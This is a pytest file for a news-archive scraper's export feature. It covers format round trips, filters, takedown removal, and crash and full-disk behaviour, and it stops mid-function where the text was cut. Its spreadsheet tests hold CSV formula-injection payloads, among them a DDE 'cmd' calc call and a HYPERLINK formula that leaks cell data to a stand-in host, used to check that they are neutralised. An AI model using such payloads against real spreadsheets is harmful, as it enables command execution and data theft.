"""Exports of tables and of SQLite files: round trips, filters, spreadsheets, and what a kill or a full disk leaves."""

import csv
import json
import os
import re
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest
from conftest import ROOT, Crawled
from hypothesis import given
from hypothesis import strategies as st

from parsers.article import Article, Block, Card, Quote, When
from parsers.errors import ArchiveError, ArchiveLocked, UsageError
from parsers.page import Page
from parsers.text import normalised
from scraper.cli.main import run
from storage import export, lock
from storage.archive import Archive
from storage.captures import Exchange
from storage.export_choice import TABLES
from storage.export_record import columns
from storage.export_tables import harmless
from storage.keeping import digest

NOW = datetime(2026, 11, 25, 6, 0, tzinfo=UTC)
csv.field_size_limit(10**9)


def write(folder: Path, form: str, out: Path, **choice: Any) -> export.Release:
    """An export of the archive in `folder`."""
    with Archive.open(folder) as archive:
        return export.export(archive, form, out, export.Choice(**choice), now=NOW)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text("utf-8").split("\n")[:-1]]


def plain(cell: str) -> str:
    """A cell as README.md says to read it."""
    return re.sub(r"\A'(?='*(?:[\t\r\n]|[\s\x00-\x1f\ufeff]*[=+\-@＝＋－＠]))", "", cell)


def view(crawled: Crawled, name: str) -> list[dict[str, Any]]:
    return [dict(row) for row in crawled.rows(f"SELECT * FROM {name} ORDER BY {export.VIEWS[name]}")]


# -- an archive with two sites, spans and hostile words ---------------------------------------------------------------------


def keep(archive: Archive, n: int, site: str, title: str, day: int, **changes: Any) -> int:
    """A story first captured at noon of a day of March, and dated to its morning unless `published` says otherwise."""
    at = datetime(2026, 3, day, 12, tzinfo=UTC)
    url = f"https://{site}.example/{n}"
    key = archive.site_id(site, home=f"https://{site}.example/", parser=None, timezone=None, now=at)
    started = archive.start_run(now=at, version="1", command="crawl", settings='{"contact": "me@example.org"}')
    body = f"{n} {title} {changes.get('body', '')}".encode()
    answer = Exchange(url, at, b"GET / HTTP/1.1\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n", body)
    kept = archive.keep(Page(url, body, captured=at), [answer], run=started, site=key, kind="story", verdict="article")
    quote = Quote(
        changes.get("speaker", "Ada Example"),
        None,
        "person",
        "head",
        "House",
        "said",
        f"Words {n}.",
        ((0, 3),),
        "direct",
        0.9,
    )
    values: dict[str, Any] = {
        "title": title,
        "teaser": changes.get("teaser", f"Teaser {n}"),
        "blocks": (Block("p", changes.get("body", f"Body {n}.")),),
        "published": changes.get("published", When("", at - timedelta(hours=6), "offset", "second")),
        "tags": changes.get("tags", (f"Tag {n}", "All")),
        "authors": ("Bo Writer",),
        "quotes": (quote,),
    }
    article = Article(url, url, verdict="article", parser_version="1", **values)
    archive.keep_article(kept.capture, article, site=key, now=at)
    archive.end_run(started, now=at, state="done", counts={"got": 1}, errors=0)
    archive.note(key, at.date(), "got")
    return kept.capture


def keep_front(archive: Archive, site: str, day: int, cards: list[Card], payload: bytes) -> None:
    at = datetime(2026, 3, day, 12, tzinfo=UTC)
    url = f"https://{site}.example/"
    key = archive.site_id(site, home=url, parser=None, timezone=None, now=at)
    started = archive.start_run(now=at, version="1", command="crawl", settings="{}")
    answer = Exchange(url, at, b"GET / HTTP/1.1\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n", payload)
    kept = archive.keep(Page(url, payload, captured=at), [answer], run=started, site=key, kind="front", verdict="front")
    archive.keep_front(kept.visit, url, cards, site=key, kind="front", title="Front", now=at)


@pytest.fixture
def two_sites(tmp_path: Path) -> Path:
    """Stories 1 to 6 of March on alternating sites, their fronts on the 2nd and the 5th; story 6 was published on the 1st."""
    folder = tmp_path / "archive"
    with Archive.create(folder) as archive:
        for n in range(1, 7):
            when = When("", datetime(2026, 3, 1, tzinfo=UTC), "offset", "day") if n == 6 else None
            keep(archive, n, ("even", "odd")[n % 2], f"Title {n}", n, **({"published": when} if when else {}))
        for site, numbers in (("even", (2, 4)), ("odd", (1, 3))):
            for day, number in zip((2, 5), numbers, strict=True):
                card = Card(f"https://{site}.example/{number}", f"Title {number}", f"On the front {number}", "", 1)
                keep_front(archive, site, day, [card], f"front {site} {day}".encode())
    (folder / "newsmorgue.toml").write_text("", "utf-8")
    return folder


def urls(folder: Path, name: str = "articles", column: str = "url") -> set[str]:
    return {row[column] for row in read_jsonl(folder / f"{name}.jsonl")}


# -- round trips -----------------------------------------------------------------------------------------------------------


def test_csv_read_back_is_the_view(crawled: Crawled, tmp_path: Path) -> None:
    release = write(crawled.folder, "csv", tmp_path / "out")
    for name in export.VIEWS:
        found = read_csv(tmp_path / "out" / f"{name}.csv")
        wanted = view(crawled, name)
        assert len(found) == len(wanted) == release.counts[f"{name}.csv"]
        for row, original in zip(found, wanted, strict=True):
            assert list(row) == list(original)
            told = {key: "" if value is None else str(value) for key, value in original.items()}
            assert {key: plain(cell) for key, cell in row.items()} == told
    assert len(view(crawled, "articles")) > 40


def test_csv_is_rfc_4180(crawled: Crawled, tmp_path: Path) -> None:
    write(crawled.folder, "csv", tmp_path / "out")
    data = (tmp_path / "out" / "articles.csv").read_bytes()
    assert data.decode("utf-8").startswith("id,url,site,")
    outside = re.sub(rb'"(?:[^"]|"")*"', b"", data)
    assert outside.count(b"\n") == outside.count(b"\r\n") == len(view(crawled, "articles")) + 1
    assert b'"' not in outside


def test_jsonl_keeps_null_empty_and_json_apart(crawled: Crawled, tmp_path: Path) -> None:
    write(crawled.folder, "jsonl", tmp_path / "out")
    for name in export.VIEWS:
        wanted = view(crawled, name)
        for row in wanted:
            for key in {"changes", "optouts", "counts"} & set(row):
                row[key] = json.loads(row[key])
        assert read_jsonl(tmp_path / "out" / f"{name}.jsonl") == wanted
    rows = read_jsonl(tmp_path / "out" / "articles.jsonl")
    assert {row["teaser"] for row in rows} >= {""}
    assert any(row["image"] is None for row in rows)


def test_parquet_has_true_types(crawled: Crawled, tmp_path: Path) -> None:
    write(crawled.folder, "parquet", tmp_path / "out")
    for name in export.VIEWS:
        read = pyarrow.parquet.read_table(tmp_path / "out" / f"{name}.parquet")
        wanted = view(crawled, name)
        described = {column.column: column for column in columns(name, export.Choice())}
        for row, original in zip(read.to_pylist(), wanted, strict=True):
            for key, value in original.items():
                unit = described[key].unit
                if value is None:
                    assert row[key] is None
                elif unit == "UTC":
                    assert row[key] == datetime.fromisoformat(value)
                elif unit == "UTC date":
                    assert row[key] == date.fromisoformat(value)
                elif unit == "JSON list":
                    assert row[key] == json.loads(value)
                else:
                    assert row[key] == value
    schema = pyarrow.parquet.read_schema(tmp_path / "out" / "articles.parquet")
    assert str(schema.field("published_utc").type) == "timestamp[ms, tz=UTC]"
    assert str(schema.field("words").type) == "int64"
    assert str(schema.field("paywall").type) == "bool"
    assert schema.field("words").metadata[b"meaning"] == b"Words of the body."
    assert (
        str(pyarrow.parquet.read_schema(tmp_path / "out" / "captures.parquet").field("optouts").type)
        == "list<element: string>"
    )


def test_more_rows_than_a_row_group(crawled: Crawled, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("storage.export_tables.ROW_GROUP", 10)
    write(crawled.folder, "parquet", tmp_path / "out")
    file = pyarrow.parquet.ParquetFile(tmp_path / "out" / "articles.parquet")
    assert file.num_row_groups > 3
    assert file.read().column("id").to_pylist() == [row["id"] for row in view(crawled, "articles")]


@pytest.mark.parametrize("name", export.VIEWS)
def test_the_dictionary_knows_every_column_of_a_file(crawled: Crawled, name: str) -> None:
    real = [row["name"] for row in crawled.rows(f"PRAGMA table_info({name})")]
    assert [column.column for column in columns(name, export.Choice())] == real


def test_every_view_for_analysts_is_a_file(crawled: Crawled) -> None:
    views = {
        row["name"]
        for row in crawled.rows("SELECT name FROM sqlite_master WHERE type = 'view' AND name <> '_latest_text'")
    }
    assert set(export.VIEWS) == views


@pytest.mark.parametrize("name", ["articles", "quotes", "captures", "revisions"])
def test_long_files_need_no_sorting(crawled: Crawled, name: str) -> None:
    with Archive.open(crawled.folder) as archive, export._snapshot(archive, export.Choice()) as conn:
        plan = conn.execute(f"EXPLAIN QUERY PLAN SELECT * FROM temp.{name} ORDER BY {export.VIEWS[name]}").fetchall()
    steps = [step for _, parent, _, step in plan if parent == 0]
    assert steps
    assert not [step for step in steps if "TEMP B-TREE" in step]


# -- what is beside the files --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_release_and_readme_say_what_is_there(crawled: Crawled, tmp_path: Path, form: str) -> None:
    import hashlib

    out = tmp_path / "out"
    release = write(crawled.folder, form, out)
    told = json.loads((out / "release.json").read_text("utf-8"))
    assert told == json.loads(json.dumps(release.as_dict()))
    assert told["schema"] == 1
    assert (told["format"], told["public"], told["made"]) == (form, False, "2026-11-25T06:00:00.000Z")
    assert told["archive_schema"] == crawled.rows("SELECT max(name) AS name FROM _sqlite_migrations")[0]["name"]
    assert {file["name"] for file in told["files"]} == {path.name for path in out.iterdir()} - {"release.json"}
    for file in told["files"]:
        data = (out / file["name"]).read_bytes()
        assert (len(data), hashlib.sha256(data).hexdigest()) == (file["bytes"], file["sha256"])
    readme = (out / "README.md").read_text("utf-8")
    for name in (*export.VIEWS, "dictionary"):
        assert re.search(rf"^\| `{name}\.{form}` \| {told['counts'][f'{name}.{form}']} \| \w", readme, re.MULTILINE)
    first, last = told["span"]["articles"]
    assert first < last <= told["span"]["captures"][1]


def test_equal_archives_give_equal_files(crawled: Crawled, tmp_path: Path) -> None:
    first, second = (write(crawled.folder, "csv", tmp_path / name) for name in ("a", "b"))
    assert first.files == second.files


def test_the_readme_tells_how_to_undo_the_apostrophes(crawled: Crawled, tmp_path: Path) -> None:
    write(crawled.folder, "csv", tmp_path / "out")
    (snippet,) = re.findall(r"```python\n(.+?)```", (tmp_path / "out" / "README.md").read_text("utf-8"), re.DOTALL)
    for cell in ("=1", "'=1", "it's", "'tis", " -x"):
        names = {"cell": harmless(cell)}
        exec(snippet, names)
        assert names["plain"] == cell == plain(harmless(cell))


# -- spreadsheets -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\x0b=1", "\ufeff=1", "＝1", "＋1",
     "－1", "＠a", "\ttab", "\rreturn", "'=1", "''  @x", "=HYPERLINK(\"https://x.example/?\"&A1)", "=cmd|'/c calc'!A1", "-", "= "],
)  # fmt: skip
def test_formulas_are_made_harmless(text: str) -> None:
    cell = harmless(text)
    assert cell.startswith("'")
    assert plain(cell) == text


@pytest.mark.parametrize(
    "text", ["", "a", "'tis", "it's =", "1-2", "a=b", "https://x.example/?a=b", "“=”", "2026-01-01", "'", "\ufffd=1"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert harmless(text) == text
    assert harmless(text.replace("\ufffd", "\0")) == text


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\na1＝\ufeff\u00a0")))
def test_harmless_text_can_be_read_back(text: str) -> None:
    cell = harmless(text)
    assert plain(cell) == text
    assert not re.match(r"[\s\x00-\x1f\ufeff]*[=+\-@＝＋－＠]", cell)


HOSTILE = '=HYPERLINK("https://x.example/?q="&A1,"go")'


def test_hostile_pages_cannot_drive_a_spreadsheet(tmp_path: Path) -> None:
    body = "-- first\r\nsecond, \"third\"\x00 and 'fourth'\n= fifth"
    with Archive.create(tmp_path / "archive") as archive:
        keep(archive, 1, "odd", HOSTILE, 1, teaser="\t@now", body=body, tags=("+1", "-x"), speaker="@Ada")
        keep(archive, 2, "odd", "-5", 2)
        archive.db.execute("UPDATE reading SET section = '\v+x'")
    write(tmp_path / "archive", "csv", tmp_path / "out")
    rows = read_csv(tmp_path / "out" / "articles.csv")
    assert rows[0]["title"] == "'" + HOSTILE
    assert rows[1]["title"] == "'-5"
    assert rows[0]["section"] == "'\v+x"
    (kept,) = read_articles(tmp_path / "archive", "https://odd.example/1")
    assert plain(rows[0]["body"]) == kept["body"].replace("\0", "\ufffd")
    assert plain(rows[0]["teaser"]) == kept["teaser"]
    numbers = {column.column for column in columns("articles", export.Choice()) if column.type in ("INTEGER", "REAL")}
    for row in rows:
        assert not [cell for key, cell in row.items() if key in numbers and cell.startswith("'")]
    for path in (tmp_path / "out").glob("*.csv"):
        for row in read_csv(path):
            assert not [cell for cell in row.values() if re.match(r"\s*[=+@-](?!\d+(\.\d+)?$)", cell)], path
    assert b"\x00" not in (tmp_path / "out" / "articles.csv").read_bytes()


def test_nul_and_line_breaks_survive_where_the_format_can_say_them(tmp_path: Path) -> None:
    with Archive.create(tmp_path / "archive") as archive:
        keep(archive, 1, "odd", "Title", 1)
        archive.db.execute("UPDATE reading SET body = ?", ("a\x00b\r\nc\u2028d 漢字 🙂",))
    for form in ("jsonl", "parquet", "sqlite"):
        write(tmp_path / "archive", form, tmp_path / form)
    text = "a\x00b\r\nc\u2028d 漢字 🙂"
    assert read_jsonl(tmp_path / "jsonl" / "articles.jsonl")[0]["body"] == text
    assert pyarrow.parquet.read_table(tmp_path / "parquet" / "articles.parquet").to_pylist()[0]["body"] == text
    assert sqlite3.connect(tmp_path / "sqlite").execute("SELECT body FROM articles").fetchone() == (text,)
    write(tmp_path / "archive", "csv", tmp_path / "csv")
    assert read_csv(tmp_path / "csv" / "articles.csv")[0]["body"] == text.replace("\0", "\ufffd")


def read_articles(folder: Path, url: str) -> list[dict[str, Any]]:
    with Archive.open(folder) as archive:
        return list(archive.db.query("SELECT * FROM articles WHERE url = ?", [url]))


# -- filters ------------------------------------------------------------------------------------------------------------------


def test_one_site(two_sites: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    write(two_sites, "jsonl", out, sites=("odd",))
    assert urls(out) == {f"https://odd.example/{n}" for n in (1, 3, 5)}
    for name in export.VIEWS:
        rows = read_jsonl(out / f"{name}.jsonl")
        assert {row["site"] for row in rows if "site" in row} <= {"odd"}, name
        assert rows or name in ("stories", "syndication", "headline_changes"), name
    assert urls(out, "tags", "tag") == {"Tag 1", "Tag 3", "Tag 5", "All"}
    (ada,) = read_jsonl(out / "experts.jsonl")
    assert (ada["person"], ada["quotes"], ada["articles"]) == ("Ada Example", 3, 3)
    write(two_sites, "jsonl", tmp_path / "both", sites=("odd", "even"))
    assert len(urls(tmp_path / "both")) == 6


def test_a_span(two_sites: Path, tmp_path: Path) -> None:
    since, until = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 4, tzinfo=UTC)
    out = tmp_path / "out"
    release = write(two_sites, "jsonl", out, since=since, until=until)
    assert urls(out) == {"https://even.example/2", "https://odd.example/3"}
    assert urls(out, "quotes") == urls(out)
    assert {row["url"] for row in read_jsonl(out / "article_tags.jsonl")} == urls(out)
    assert {row["at"][:10] for row in read_jsonl(out / "captures.jsonl")} == {"2026-03-02", "2026-03-03"}
    assert urls(out, "coverage", "day") == {"2026-03-02", "2026-03-03"}
    assert urls(out, "runs", "started") <= {f"2026-03-0{n}T12:00:00.000Z" for n in (2, 3)}
    assert release.filters == {"sites": [], "since": "2026-03-02T00:00:00.000Z", "until": "2026-03-04T00:00:00.000Z"}
    readme = (out / "README.md").read_text("utf-8")
    assert "Dates: from 2026-03-02T00:00:00.000Z until 2026-03-04T00:00:00.000Z, excluded." in readme
    # What stood on the fronts from the 2nd on; the next visit was on the 5th.
    assert urls(out, "front_page_history") == {"https://even.example/2", "https://odd.example/1"}


def test_a_story_counts_by_its_own_date_and_brings_its_evidence(two_sites: Path, tmp_path: Path) -> None:
    until = datetime(2026, 3, 1, 1, tzinfo=UTC)
    write(two_sites, "jsonl", tmp_path / "out", until=until)
    assert urls(tmp_path / "out") == {"https://even.example/6"}
    (capture,) = read_jsonl(tmp_path / "out" / "captures.jsonl")
    assert (capture["url"], capture["at"]) == ("https://even.example/6", "2026-03-06T12:00:00.000Z")
    write(two_sites, "jsonl", tmp_path / "later", since=until)
    assert len(urls(tmp_path / "later")) == 5
    # The capture was found in this span, though its story belongs to the other.
    assert len(read_jsonl(tmp_path / "later" / "captures.jsonl")) == 10


def test_coverage_counts_all_articles_of_its_days(two_sites: Path, tmp_path: Path) -> None:
    sixth = datetime(2026, 3, 6, tzinfo=UTC)
    write(two_sites, "jsonl", tmp_path / "out", since=sixth)
    assert urls(tmp_path / "out") == set()
    (row,) = read_jsonl(tmp_path / "out" / "coverage.jsonl")
    assert (row["day"], row["new_articles"], row["got"]) == ("2026-03-06", 1, 1)


def test_nothing_chosen_is_files_without_rows(two_sites: Path, tmp_path: Path) -> None:
    for form in ("csv", "jsonl", "parquet"):
        write(two_sites, form, tmp_path / form, until=datetime(1999, 1, 1, tzinfo=UTC))
    assert read_csv(tmp_path / "csv" / "articles.csv") == []
    assert (tmp_path / "csv" / "articles.csv").read_text().startswith("id,url,")
    assert pyarrow.parquet.read_table(tmp_path / "parquet" / "quotes.parquet").num_rows == 0


def test_an_unknown_site_and_an_empty_span_are_usage_errors(two_sites: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no site 'ood'") as caught:
        write(two_sites, "csv", tmp_path / "out", sites=("ood",))
    assert "did you mean 'odd'" in str(caught.value)
    with pytest.raises(UsageError, match="span is empty"):
        write(two_sites, "csv", tmp_path / "out", since=NOW, until=NOW)
    assert [path.name for path in tmp_path.iterdir()] == ["archive"]


# -- takedowns -----------------------------------------------------------------------------------------------------------------


def take_down(folder: Path, kind: str, text: str) -> None:
    """A tombstone beside rows that are still there."""
    with Archive.open(folder, write=True) as archive:
        archive.db.execute(
            "INSERT INTO takedown (kind, digest, at, reason, decided_by) VALUES (?, ?, '2026-03-07T00:00:00.000Z', 'why', 'me')",
            (kind, digest(text.encode())),
        )


def test_what_was_taken_down_is_in_no_file(two_sites: Path, tmp_path: Path) -> None:
    with Archive.open(two_sites, write=True) as archive:
        archive.db.execute(
            "INSERT INTO alias SELECT 'https://odd.example/other', id, 'asked', first_seen FROM article WHERE url LIKE '%odd%/3'"
        )
    take_down(two_sites, "url", "https://even.example/2")
    take_down(two_sites, "url", "https://odd.example/other")
    for form in ("csv", "jsonl", "sqlite"):
        write(two_sites, form, tmp_path / form)
    for data in [path.read_bytes() for form in ("csv", "jsonl") for path in (tmp_path / form).iterdir()]:
        for words in (
            b"even.example/2",
            b"odd.example/3",
            b"odd.example/other",
            b"Title 2",
            b"Title 3",
            b"Words 2",
            b"Tag 3",
        ):
            assert words not in data
    dump = "\n".join(sqlite3.connect(tmp_path / "sqlite").iterdump())
    assert not re.search(
        r"even\.example/2|odd\.example/3|odd\.example/other|Title [23]|Words [23]|Teaser [23]|Tag [23]", dump
    )
    assert len(urls(tmp_path / "jsonl")) == 4
    assert sqlite3.connect(tmp_path / "sqlite").execute("SELECT count(*) FROM takedown").fetchone() == (2,)


def test_a_person_taken_down_is_quoted_nowhere(two_sites: Path, tmp_path: Path) -> None:
    with Archive.open(two_sites, write=True) as archive:
        keep(archive, 9, "odd", "Title 9", 9, speaker="Cy Other")
    take_down(two_sites, "person", normalised("Ada Example"))
    take_down(two_sites, "person", normalised("Bo Writer"))
    write(two_sites, "jsonl", tmp_path / "out")
    write(two_sites, "sqlite", tmp_path / "db")
    assert [row["speaker"] for row in read_jsonl(tmp_path / "out" / "quotes.jsonl")] == ["Cy Other"]
    assert [row["person"] for row in read_jsonl(tmp_path / "out" / "people.jsonl")] == ["Cy Other"]
    assert read_jsonl(tmp_path / "out" / "article_authors.jsonl") == []
    assert not re.search("Ada Example|ada example|Bo Writer", "\n".join(sqlite3.connect(tmp_path / "db").iterdump()))


# -- SQLite --------------------------------------------------------------------------------------------------------------------


def test_a_sqlite_export_is_an_archive_without_its_queue(crawled: Crawled, tmp_path: Path) -> None:
    out = tmp_path / "copy.sqlite"
    release = write(crawled.folder, "sqlite", out)
    db = sqlite3.connect(out)
    assert db.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    assert db.execute("PRAGMA freelist_count").fetchone() == (0,)
    assert db.execute("PRAGMA journal_mode").fetchone() == ("delete",)
    db.execute("INSERT INTO text_fts (text_fts, rank) VALUES ('integrity-check', 1)")
    db.rollback()
    for table in TABLES:
        order = ", ".join(str(n + 1) for n in range(len(db.execute(f"SELECT * FROM {table}").description)))
        mine = db.execute(f"SELECT * FROM {table} ORDER BY {order}").fetchall()
        assert mine == [tuple(row) for row in crawled.rows(f"SELECT * FROM {table} ORDER BY {order}")], table
        assert release.counts[table] == len(mine)
    for name in export.VIEWS:
        mine = db.execute(f"SELECT * FROM {name} ORDER BY {export.VIEWS[name]}").fetchall()
        assert mine == [tuple(row) for row in crawled.rows(f"SELECT * FROM {name} ORDER BY {export.VIEWS[name]}")], name
    assert db.execute("SELECT (SELECT count(*) FROM frontier) + (SELECT count(*) FROM host)").fetchone() == (0,)
    facts = {key: json.loads(value) for key, value in db.execute("SELECT * FROM _release")}
    assert (facts["format"], facts["public"], facts["counts"]) == ("sqlite", False, dict(release.counts))
    described = {tuple(row) for row in db.execute('SELECT object, "column" FROM _dictionary')}
    assert described >= {("articles", "title"), ("_release", "value")}
    assert [file.name for file in release.files] == ["copy.sqlite"]


def test_every_table_is_exported_or_left_empty_on_purpose(crawled: Crawled) -> None:
    names = {
        row["name"] for row in crawled.rows("PRAGMA table_list") if row["type"] == "table" and row["schema"] == "main"
    }
    made = {"_dictionary", "_sqlite_migrations", "sqlite_schema", "sqlite_stat1", "sqlite_stat4"}
    assert names - made - {"frontier", "host", "host_pattern", "warc", "lost"} == set(TABLES)


def test_our_own_verbs_read_a_sqlite_export(
    crawled: Crawled, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "opened"
    folder.mkdir()
    (folder / "warc").mkdir()
    (folder / "newsmorgue.toml").write_text("", "utf-8")
    write(crawled.folder, "sqlite", folder / "archive.db")

    def answers(*words: str) -> list[Any]:
        found = []
        for where in (crawled.folder, folder):
            code = run([*words, "--json", "--archive", str(where)])
            found.append((code, capsys.readouterr().out))
        return found

    for words in (["search", "sleep"], ["quotes", "--limit", "500"], ["people", "--experts"]):
        mine, copied = answers(*words)
        assert mine == copied
        assert mine[0] == 0
        assert len(mine[1]) > 500
    Archive.open(folder, write=True).close()
    with Archive.open(folder) as archive:
        assert archive.status(now=NOW)[0]["queue"] == 0


def test_a_filtered_sqlite_export_holds_together(two_sites: Path, tmp_path: Path) -> None:
    since, until = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 4, tzinfo=UTC)
    write(two_sites, "sqlite", tmp_path / "db", sites=("odd",), since=since, until=until)
    write(two_sites, "jsonl", tmp_path / "tables", sites=("odd",), since=since, until=until)
    db = sqlite3.connect(tmp_path / "db")
    db.row_factory = sqlite3.Row
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    assert [row["name"] for row in db.execute("SELECT name FROM site")] == ["odd"]
    for name in set(export.VIEWS) - {"coverage"}:
        rows = [dict(row) for row in db.execute(f"SELECT * FROM {name} ORDER BY {export.VIEWS[name]}")]
        for row in rows:
            for key in {"changes", "optouts", "counts"} & set(row):
                row[key] = json.loads(row[key])
        assert rows == read_jsonl(tmp_path / "tables" / f"{name}.jsonl"), name
    assert [row["url"] for row in db.execute("SELECT url FROM articles")] == ["https://odd.example/3"]
    assert len(db.execute("SELECT rowid FROM text_fts WHERE text_fts MATCH 'title'").fetchall()) == 1
    assert "Body 1" not in "\n".join(db.iterdump())


def test_a_capture_of_another_site_comes_with_its_site(tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    with Archive.create(folder) as archive:
        capture = keep(archive, 1, "odd", "Title", 1)
        other = archive.site_id("other", home="https://other.example/", parser=None, timezone=None, now=NOW)
        archive.db.execute("UPDATE capture SET site_id = ? WHERE id = ?", (other, capture))
    write(folder, "sqlite", tmp_path / "db", sites=("odd",))
    db = sqlite3.connect(tmp_path / "db")
    assert db.execute("SELECT url FROM articles").fetchall() == [("https://odd.example/1",)]
    assert db.execute("SELECT name FROM site ORDER BY name").fetchall() == [("odd",), ("other",)]


# -- OUT, kills, full disks, crawls ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["csv", "sqlite", "warc"])
def test_nothing_is_overwritten(crawled: Crawled, tmp_path: Path, form: str) -> None:
    full = tmp_path / "full"
    full.mkdir()
    (full / "mine.txt").write_text("keep me")
    file = tmp_path / "file"
    file.write_text("keep me")
    for out in (full, file):
        with pytest.raises(UsageError):
            write(crawled.folder, form, out)
    with pytest.raises(UsageError, match="is not a folder"):
        write(crawled.folder, form, tmp_path / "nowhere" / "out")
    assert (full / "mine.txt").read_text() == file.read_text() == "keep me"
    assert {path.name for path in tmp_path.iterdir()} == {"full", "file"}


def test_an_empty_place_may_be_filled(crawled: Crawled, tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "file").touch()
    write(crawled.folder, "csv", tmp_path / "folder")
    write(crawled.folder, "sqlite", tmp_path / "file")
    assert (tmp_path / "folder" / "articles.csv").stat().st_size > 1000
    assert (tmp_path / "file").stat().st_size > 1000
    with pytest.raises(UsageError, match="is a folder"):
        write(crawled.folder, "sqlite", tmp_path / "folder")


KILLED = """
import os, signal, sys
from datetime import UTC, datetime
from pathlib import Path
from storage import export
from storage.archive import Archive

archive, form, out, at = sys.argv[1:]
def progress(name, rows):
    if name == at:
        os.kill(os.getpid(), signal.SIGKILL)
with Archive.open(Path(archive)) as opened:
    export.export(opened, form, Path(out), export.Choice(), now=datetime.now(UTC), progress=progress)
"""


@pytest.mark.parametrize(
    ("form", "at"),
    [("csv", "articles.csv"), ("csv", "dictionary.csv"), ("jsonl", "quotes.jsonl"), ("parquet", "captures.parquet"),
     ("sqlite", "site"), ("sqlite", "quote"), ("warc", "captures.jsonl")],
)  # fmt: skip
def test_a_killed_export_leaves_nothing_under_its_name(crawled: Crawled, tmp_path: Path, form: str, at: str) -> None:
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-c", KILLED, str(crawled.folder), form, str(out), at], cwd=ROOT)
    assert done.returncode == -signal.SIGKILL
    assert [path.name for path in tmp_path.iterdir()] == [".out.part"]
    release = write(crawled.folder, form, out)
    assert release.files
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    if out.is_dir():
        assert {path.name for path in out.iterdir()} == {*(file.name for file in release.files), "release.json"}


def test_an_interrupted_export_leaves_nothing_at_all(crawled: Crawled, tmp_path: Path) -> None:
    def progress(name: str, rows: int) -> None:
        if name == "captures.csv":
            raise KeyboardInterrupt

    with Archive.open(crawled.folder) as archive, pytest.raises(KeyboardInterrupt):
        export.export(archive, "csv", tmp_path / "out", export.Choice(), now=NOW, progress=progress)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", ["csv", "parquet", "sqlite", "warc"])
def test_a_full_disk_is_a_clear_error(crawled: Crawled, tmp_path: Path, form: str) -> None:
    """Files of this process may have 50 kB: the writes fail as they do on a full disk."""
    code = (
        f"import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (50_000, {resource.RLIM_INFINITY}))\n"
        "from scraper.cli.main import main; main()"
    )
    words = ["export", form, str(tmp_path / "out"), "--archive", str(crawled.folder)]
    done = subprocess.run([sys.executable, "-c", code, *words], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 1, done.stderr
    assert "cannot write" in done.stderr
    assert "Traceback" not in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_two_exports_to_one_place_do_not_mix(crawled: Crawled, tmp_path: Path) -> None:
    (tmp_path / ".out.part").mkdir()
    held = lock.take(tmp_path / ".out.part")
    with pytest.raises(ArchiveLocked):
        write(crawled.folder, "csv", tmp_path / "out")
    assert (tmp_path / ".out.part").is_dir()
    lock.release(held)
    write(crawled.folder, "csv", tmp_path / "out")


@pytest.mark.parametrize(("form", "articles"), [("jsonl", "articles.jsonl"), ("sqlite", "article")])
def test_a_crawl_may_go_on_meanwhile(two_sites: Path, tmp_path: Path, form: str, articles: str) -> None:
    """What a writer commits while an export is under way is in none of its files."""
    told: list[str] = []
    with Archive.open(two_sites, write=True) as writer, Archive.open(two_sites) as reader:

        def progress(name: str, rows: int) -> None:
            told.append(name)
            keep(writer, 100 + len(told), "odd", f"Late {len(told)}", 1, speaker=f"Late {len(told)}")

        release = export.export(reader, form, tmp_path / "out", export.Choice(), now=NOW, progress=progress)
        assert release.counts[articles] == 6
        assert len(told) > 10
        again = export.export(reader, form, tmp_path / "again", export.Choice(), now=NOW)
    assert again.counts[articles] == 6 + len(told)
    text = "".join(
        path.read_text("utf-8", "replace")
        for path in ((tmp_path / "out").iterdir() if form == "jsonl" else [tmp_path / "out"])
    )
    assert "Late" not in text


def test_an_archive_of_an_earlier_edition_says_how_to_go_on(tmp_path: Path) -> None:
    import tarfile

    stored = sorted((ROOT / "fixtures" / "archives").glob("*.tar.xz"))[0]
    with tarfile.open(stored) as packed:
        packed.extractall(tmp_path, filter="data")
    with pytest.raises(ArchiveError, match="earlier edition"):
        write(tmp_path / "archive", "csv", tmp_path / "out")
    Archive.open(tmp_path / "archive", write=True).close()
    release = write(tmp_path / "archive", "csv", tmp_path / "out")
    assert release.counts["articles.csv"] >= 5


# -- the command line -------------------------------------------------------------------------------------------------------------


@pytest.fixture
def command(crawled: Crawled, capsys: pytest.CaptureFixture[str]) -> Callable[..., tuple[int, str, str]]:
    def call(*words: str) -> tuple[int, str, str]:
        code = run(["export", *words, "--archive", str(crawled.folder)])
        said = capsys.readouterr()
        return code, said.out, said.err

    return call


def test_json_says_what_was_written(
